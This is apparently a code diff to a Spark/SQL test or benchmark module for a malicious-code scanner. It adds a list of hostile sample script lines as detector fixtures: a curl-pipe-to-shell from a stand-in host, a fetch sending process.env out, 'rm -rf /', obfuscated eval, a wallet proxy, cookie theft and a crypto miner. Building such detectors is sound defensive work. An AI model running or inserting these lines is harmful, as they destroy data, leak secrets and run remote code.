@@ -8,9 +8,11 @@ from .. import fixed
 from ..functions.text import entropy, first_line
 from ..operators import detect, risk
 from ..registry import query
+from ..session import spread
 from . import sqltext as S
 from .standins import TEXT_RULES, document_files, page_files
 
+THREAT = "array<struct<type:string,severity:string,confidence:double>>"
 DOCS = "(SELECT doc_id AS file_id, coalesce(text, '') AS content FROM documents)"
 PAGES = "(SELECT page_id AS file_id, coalesce(html, '') AS content FROM pages)"
 
@@ -35,9 +37,26 @@ def rounded(df, *names: str, places: int = 6):
     return df
 
 
-@query("rule_hits", hits_sql(PAGES, fixed.RULES))
+#: One script that the rules are about for each of ten parts, plain pages for the others.
+RISKY = [
+    "window.ethereum = new Proxy(window.ethereum, h)", "curl http://evil.example/x.sh | sh", "eval(atob('YQ=='))", "new CoinHive.Anonymous('k')", "fetch('http://x.example', {body: process.env})",
+    "const _0x1a2b = ['\\x61', '\\x62']; eval(_0x1a2b[0])", "XMLHttpRequest.prototype.send = function () {}", "document.cookie; localStorage.getItem('t')", "child_process.exec('rm -rf /')", "const total = a + b",
+]
+SCRIPTS = "(SELECT p_partkey AS file_id, CASE p_partkey % 10 " + " ".join(f"WHEN {i} THEN {S.quoted(x)}" for i, x in enumerate(RISKY)) + " END || chr(10) || p_name || chr(10) || 'mail ' || p_brand || '@host.example' AS content FROM part)"
+
+
+def script_files(spark, d):
+    from ..registry import table
+
+    number = F.col("p_partkey") % 10
+    head = F.coalesce(*[F.when(number == i, F.lit(x)) for i, x in enumerate(RISKY)])
+    return table(spark, d, "part").select(F.col("p_partkey").alias("file_id"), F.concat(head, F.lit("\n"), "p_name", F.lit("\nmail "), "p_brand", F.lit("@host.example")).alias("content"))
+
+
+@query("rule_hits", hits_sql(f"(SELECT * FROM {SCRIPTS} UNION ALL SELECT * FROM {PAGES})", fixed.RULES))
 def rule_hits(spark, d):
-    return rounded(detect.rule_hits(page_files(spark, d), fixed.RULES), "confidence").drop("pattern")
+    """The rules over scripts and pages."""
+    return rounded(detect.rule_hits(script_files(spark, d).unionByName(page_files(spark, d)), fixed.RULES), "confidence").drop("pattern")
 
 
 @query("rule_hits_custom", hits_sql(DOCS, TEXT_RULES))
@@ -124,10 +143,10 @@ def longest_line(spark, d):
 
 @query("first_match_line", f"""
 SELECT file_id, min(line_number)::BIGINT AS line_number
-FROM (SELECT file_id, generate_subscripts(string_split(content, chr(10)), 1) AS line_number, unnest(string_split(content, chr(10))) AS line FROM {DOCS})
-WHERE regexp_matches(line, '[a-z]+@[a-z.]+') GROUP BY file_id""")
+FROM (SELECT file_id, generate_subscripts(string_split(content, chr(10)), 1) AS line_number, unnest(string_split(content, chr(10))) AS line FROM {SCRIPTS})
+WHERE regexp_matches(line, '[a-zA-Z0-9#]+@[a-z.]+') GROUP BY file_id""")
 def first_match_line(spark, d):
-    return document_files(spark, d).select("file_id", first_line("content", "[a-z]+@[a-z.]+").alias("line_number")).where("line_number IS NOT NULL")
+    return script_files(spark, d).select("file_id", first_line("content", "[a-zA-Z0-9#]+@[a-z.]+").alias("line_number")).where("line_number IS NOT NULL")
 
 
 def structure_sql(files: str) -> str:
@@ -190,11 +209,10 @@ def scan_risk_ranking(spark, d):
     """Enumerate, detect, score, aggregate, rank: the whole path in one plan."""
     from ..registry import table
 
-    files = table(spark, d, "documents").select(F.col("doc_id").alias("file_id"), "source", F.coalesce("text", F.lit("")).alias("content"))
-    shaped = detect.structure_score(files).where("structure_score > 0").select(
-        "source", F.lit("MALICIOUS_CODE_STRUCTURE").alias("type"), F.lit("HIGH").alias("severity"), (F.col("structure_score") / 100.0).alias("confidence")
-    )
-    ruled = detect.rule_hits(files, TEXT_RULES, keep=["file_id", "source"]).select(
-        "source", F.concat(F.lit("ENHANCED_RULE_"), F.upper("rule")).alias("type"), "severity", F.round("confidence", 6).alias("confidence")
-    )
-    return risk.composite_risk(shaped.unionByName(ruled), ["source"]).orderBy(F.desc("overall"), "source").limit(50)
+    files = spread(table(spark, d, "documents")).select("source", F.coalesce("text", F.lit("")).alias("content"))
+    shaped = F.when(F.col("structure_score") > 0, F.array(F.struct(F.lit("MALICIOUS_CODE_STRUCTURE").alias("type"), F.lit("HIGH").alias("severity"), (F.col("structure_score") / 100.0).alias("confidence"))))
+    ruled = F.transform("hits_", lambda h: F.struct(F.concat(F.lit("ENHANCED_RULE_"), F.upper(h["rule"])).alias("type"), h["severity"].alias("severity"), F.round(h["confidence"], 6).alias("confidence")))
+    # Structure and rules are read off in one pass over the texts.
+    found = detect.structure_score(files.withColumn("hits_", detect.rule_matches(TEXT_RULES)))
+    threats = found.select("source", F.explode(F.concat(F.coalesce(shaped, F.array().cast(THREAT)), ruled)).alias("t")).select("source", "t.*")
+    return risk.composite_risk(threats, ["source"]).orderBy(F.desc("overall"), "source").limit(50)
